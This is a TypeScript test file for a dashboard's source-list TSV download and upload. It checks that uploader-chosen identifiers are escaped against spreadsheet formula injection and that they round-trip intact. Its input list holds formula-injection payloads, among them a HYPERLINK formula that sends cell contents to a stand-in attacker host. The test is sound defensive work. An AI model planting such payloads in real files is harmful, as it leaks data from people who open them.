/**
 * The source list TSV against spreadsheet formula injection: identifiers chosen by uploaders are
 * written so that no cell runs as a formula, and the file read back gives the real identifiers.
 */
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from '../../src/dashboard/source-list.tsv.ts';
import { useTestServer } from '../helpers/server.ts';
import { createStaff, logIn, type Login } from '../helpers/staff.ts';
import { hoursAgo, pointAt } from '../monitoring/support.ts';
import { postGzip } from '../processing/support.ts';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A3&B3,"open")',
  '+1+2',
  '-5',
  '@SUM(1,2)',
  '\t=1+2',
  '\r=1+2',
  '\uFF1D1+2',
  "'=already quoted",
  "''-twice",
];
const PLAIN = ["O'Brien", 'P-001', 'a=b'];
// What a spreadsheet may run: a cell starting with one of these.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('source list TSV', () => {
  const server = useTestServer();
  let login: Login;

  beforeAll(async () => {
    await createStaff(server.db.pool, 'ana', 'correct horse');
    login = await logIn(server.baseUrl, 'ana', 'correct horse');
    await postGzip(server, [...HOSTILE, ...PLAIN].map((source) => pointAt(source, hoursAgo(1))));
    await server.process();
  });

  const download = async () => {
    const response = await fetch(`${server.baseUrl}/data/sources.tsv`, { headers: { cookie: login.cookie } });
    expect(response.status).toBe(200);
    return response.text();
  };
  const upload = async (text: string) => {
    const form = new FormData();
    form.set('upload_file', new Blob([text], { type: 'text/tab-separated-values' }), 'roster.tsv');
    const response = await fetch(`${server.baseUrl}/data/sources.tsv?_csrf=${encodeURIComponent(login.csrf)}`, { method: 'POST', redirect: 'manual', headers: { cookie: login.cookie }, body: form });
    expect(response.status).toBe(303);
    return new URL(response.headers.get('location')!, server.baseUrl).searchParams.get('subject');
  };

  it('writes no cell a spreadsheet would run as a formula', async () => {
    const cells: string[][] = parse(await download(), { delimiter: '\t', relax_quotes: true });
    const ids = cells.slice(1).map((row) => row[0]);
    expect(ids).toHaveLength(HOSTILE.length + PLAIN.length);
    expect(ids.filter((id) => FORMULA_START.test(id))).toEqual([]);
    expect(ids).toContain(`'${HOSTILE[0]}`);
    expect(ids).toContain("''=already quoted");
    expect(ids).toContain("O'Brien");
    expect(ids).toContain("'-5");
  });

  it('reads its own file back as the real identifiers, also as a spreadsheet saves it', async () => {
    const text = await download();
    expect(await upload(text)).toBe(`0 added, 0 updated, ${HOSTILE.length + PLAIN.length} unchanged`);
    // Names given in the file land on the real identifiers (the last column, Configuration, is empty).
    const named = text.replace(/\r\n/g, '\n').split('\n').map((line, i) => (i === 0 || line === '' ? line : line.replace(/\t\t\t$/, `\tName ${i}\t\t`))).join('\r\n');
    expect(await upload(named)).toBe(`0 added, ${HOSTILE.length + PLAIN.length} updated, 0 unchanged`);
    const { rows } = await server.db.pool.query<{ source: string; name: string }>('SELECT source, name FROM data_sources ORDER BY source');
    expect(rows.map((r) => r.source).sort()).toEqual([...HOSTILE, ...PLAIN].sort());
    expect(rows.every((r) => /^Name \d+$/.test(r.name))).toBe(true);
    // A spreadsheet may save '+… as +… (the apostrophe only marked it as text): the same source.
    expect(await upload(`Source ID\tSource Name\n'+1+2\tPlus\n`)).toBe('0 added, 1 updated, 0 unchanged');
    expect(await upload(`Source ID\tSource Name\n+1+2\tPlus again\n`)).toBe('0 added, 1 updated, 0 unchanged');
    const { rows: [plus] } = await server.db.pool.query(`SELECT name FROM data_sources WHERE source = '+1+2'`);
    expect(plus.name).toBe('Plus again');
  });

  it('round-trips every value through neutraliseFormula and restoreFormula', () => {
    for (const value of [...HOSTILE, ...PLAIN, '', "'", "''", "'x", '=', "'''@"]) expect(restoreFormula(neutraliseFormula(value)), value).toBe(value);
  });
});
